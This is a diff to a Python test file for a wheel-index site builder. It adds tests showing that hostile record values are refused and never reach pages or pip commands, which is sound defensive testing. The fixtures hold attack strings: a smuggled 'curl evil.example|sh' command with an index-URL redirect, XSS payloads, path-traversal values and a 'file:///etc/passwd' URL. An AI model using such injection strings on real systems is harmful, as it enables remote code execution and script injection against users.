@@ -13,10 +13,16 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from packaging.requirements import Requirement
 
+from tests.roots import REPO
 from tests.unit.conftest import package_yaml
 from wheelfarm.builder import build, envs
 from wheelfarm.core.errors import ConfigError
 from wheelfarm.core.root import FarmRoot
+from wheelfarm.index import entries
+from wheelfarm.index.catalog import Catalog
+from wheelfarm.index.entries import Covered, WheelEntry
+from wheelfarm.index.site import OWNED, Site
+from wheelfarm.index.sources import from_wheelhouse
 from wheelfarm.matrix.load import load_matrix, module_problem, requirement_problem
 
 # --- package YAML: import names and requirements (row 1) --------------------------------------
@@ -119,3 +125,145 @@ def test_pip_never_gets_an_option_from_a_package_file(
     envs.install_requirements(tmp_path / "py", ("numpy", "scipy>=1"), log=tmp_path / "log")
     (argv,) = calls
     assert argv[-3:] == ("--", "numpy", "scipy>=1")
+
+
+# --- values from records, API asset objects and the site reach no path, page or command (row 4)
+
+GOOD = "demo_pkg-1.0.0+cu130torch2.14-cp312-cp312-manylinux_2_28_x86_64.whl"
+CELL = {"cuda": "cu130", "torch": "2.14", "python": "3.12", "platform": "linux_x86_64"}
+INJECTED = "cu130 --index-url https://evil.example/simple/ ;curl evil.example|sh;"
+HOSTILE_ENTRIES = {
+    "javascript url": {"url": "javascript:alert(1)//x.whl"},
+    "plain http elsewhere": {"url": "http://evil.example/x.whl"},
+    "quote in url": {"url": 'https://example.invalid/x.whl"onmouseover="alert(1)'},
+    "md5 digest": {"sha256": "md5:" + "a" * 32},
+    "non-hex sha256": {"sha256": "g" * 64},
+    "upper-case sha256": {"sha256": "AB" * 32},
+    "metadata digest": {"metadata_sha256": "zz"},
+    "injected cuda": {"covers": (Covered(**{**CELL, "cuda": INJECTED}),)},
+    "climbing torch": {"covers": (Covered(**{**CELL, "torch": "../../etc"}),)},
+    "html arch": {"sass": ("sm_90<img src=x onerror=alert(1)>",)},
+    "climbing arch": {"ptx": ("../../etc",)},
+    "bad requires-python": {"requires_python": ">=3.10<img>"},
+}
+
+
+def site_entry(filename: str = GOOD, **kw: object) -> WheelEntry:
+    base: dict[str, object] = {
+        "filename": filename,
+        "url": f"https://example.invalid/dl/{filename.replace('+', '%2B')}",
+        "sha256": "ab" * 32,
+        "size": 10,
+        "covers": (Covered(**CELL),),
+    }
+    return WheelEntry(**{**base, **kw})  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("bad", HOSTILE_ENTRIES.values(), ids=HOSTILE_ENTRIES.keys())
+def test_a_bad_value_drops_that_wheel_with_its_reason_and_reaches_no_page(
+    tmp_path: Path, bad: dict[str, object]
+) -> None:
+    other = GOOD.replace("demo_pkg", "other_pkg")
+    with Catalog([site_entry(other), site_entry(**bad)]) as wheels, Site(tmp_path / "s") as site:
+        site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
+        (reason,) = wheels.refused
+        assert reason.startswith(entries.SHAPES)
+        assert wheels.refused[reason] == [GOOD]
+    pages = [p for p in (tmp_path / "s").rglob("*") if p.is_file() and p.name != OWNED]
+    text = "\n".join(p.read_text() for p in pages)  # the file list keeps the report
+    assert "other_pkg" in text  # the rest of the index is written
+    assert "demo_pkg" not in text
+    for value in bad.values():
+        shown = value[0] if isinstance(value, tuple) else value
+        assert str(shown) not in text
+    assert sorted(p.name for p in (tmp_path / "s").iterdir() if p.is_dir()) == ["cu130"]
+
+
+@pytest.mark.parametrize(
+    ("url", "ok"),
+    [
+        ("https://github.com/o/r/releases/download/v1/x.whl", True),
+        ("http://127.0.0.1:8000/x.whl", True),
+        ("http://[::1]:8000/x.whl", True),
+        ("http://localhost/x.whl", True),
+        ("", True),
+        ("http://localhost.evil.example/x.whl", False),
+        ("https:///x.whl", False),
+        ("file:///etc/passwd", False),
+        ("data:text/html,<script>", False),
+        ("https://example.invalid/x.whl\n--index-url=https://evil", False),
+        ("https://exa mple.invalid/x.whl", False),
+        ("https://[::1/x.whl", False),
+    ],
+)
+def test_urls_https_only_and_http_to_loopback(url: str, ok: bool) -> None:
+    assert (entries.url_problem(url) is None) == ok
+
+
+@pytest.mark.parametrize(
+    ("name", "why"),
+    [
+        ("x" * 230 + "-1.0-py3-none-any.whl", "over 240 characters"),
+        ("démo-1.0-py3-none-any.whl", "printable ASCII"),
+        ("demo\u202egpj-1.0-py3-none-any.whl", "printable ASCII"),
+        ("notes.whl", "not a wheel's"),
+    ],
+)
+def test_a_wheelhouse_name_of_no_shape_is_refused_unread_and_unwritten(
+    tmp_path: Path, name: str, why: str
+) -> None:
+    house, out = tmp_path / "house", tmp_path / "site"
+    house.mkdir()
+    (house / name).write_bytes(b"not read")
+    with Site(out) as site, from_wheelhouse(house, None, {}, site) as wheels:
+        site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
+        ((reason, names),) = wheels.refused.items()
+    assert why in reason
+    assert names == [name if name.isascii() and name.isprintable() else ascii(name)]
+    assert not (out / "files").exists()
+
+
+ASCII = st.characters(min_codepoint=0x20, max_codepoint=0x7E)
+SHAPED = st.sampled_from(["cu130", "2.14", "3.12", "linux_x86_64", "sm_90", "sm_100f", "sm_90a"])
+VALUE = st.one_of(
+    SHAPED, st.text(ASCII, max_size=20), st.text(max_size=8), st.integers(), st.none()
+)
+RECORDS = st.fixed_dictionaries(
+    {
+        "target": st.fixed_dictionaries(
+            {"covers": st.lists(st.fixed_dictionaries(dict.fromkeys(CELL, VALUE)), max_size=3)}
+        ),
+        "archs_found": st.dictionaries(
+            st.text(max_size=5),
+            st.fixed_dictionaries({"cubins": st.lists(VALUE, max_size=3), "ptx": st.lists(VALUE)}),
+            max_size=2,
+        ),
+    }
+)
+
+
+@given(RECORDS)
+@settings(max_examples=60, deadline=None)
+def test_any_build_record_lists_its_wheel_with_shaped_values_or_refuses_it(
+    record: dict[str, object],
+) -> None:
+    from tempfile import TemporaryDirectory
+
+    from tests.unit.test_index_owned import wheel
+
+    with TemporaryDirectory() as tmp:
+        house, out = Path(tmp) / "house", Path(tmp) / "site"
+        house.mkdir()
+        wheel(house, GOOD)
+        (house / f"{GOOD}.build.json").write_text(json.dumps(record))
+        with Site(out) as site, from_wheelhouse(house, None, {}, site) as wheels:
+            site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
+            refused = dict(wheels.refused)
+        manifest = json.loads((out / "packages.json").read_text())
+    listed = manifest["wheels"]
+    assert len(listed) + sum(map(len, refused.values())) == 1
+    for w in listed:
+        assert all(entries.ARCH.fullmatch(a) for a in w["archs"]["sass"] + w["archs"]["ptx"])
+        for c in w["covers"]:
+            assert entries.CUDA_TAG.fullmatch(c["cuda"])
+            assert entries.TORCH_MINOR.fullmatch(c["torch"])
